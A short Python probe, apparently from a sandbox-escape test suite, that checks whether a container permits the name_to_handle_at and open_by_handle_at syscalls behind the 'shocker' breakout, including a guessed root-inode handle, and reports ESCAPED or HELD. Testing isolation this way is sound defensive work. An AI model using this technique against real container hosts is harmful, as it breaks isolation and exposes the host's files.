# class: kernel
# tries: name_to_handle_at and open_by_handle_at, by which containers were left ("shocker")
# network: any
import ctypes
import os
import platform

X86 = platform.machine() == "x86_64"
libc = ctypes.CDLL(None, use_errno=True)


def call(x86, arm, *args):
    return libc.syscall(x86 if X86 else arm, *args)


handle = ctypes.create_string_buffer(b"\x80\0\0\0" + bytes(140), 144)
mount_id = ctypes.c_int()
root = os.open("/", os.O_RDONLY)
got = ["name_to_handle_at"]
got *= call(303, 264, root, b"usr", handle, ctypes.byref(mount_id), 0) == 0
guess = ctypes.create_string_buffer(b"\x08\0\0\0\1\0\0\0\2\0\0\0\0\0\0\0")  # inode 2
for fd in (root, os.open("/usr", os.O_RDONLY)):
    for wanted in (handle, guess):
        if call(304, 265, fd, wanted, 0) >= 0:
            got.append("open_by_handle_at")
print(f"ESCAPED: {got}" if got else "HELD: no handle")
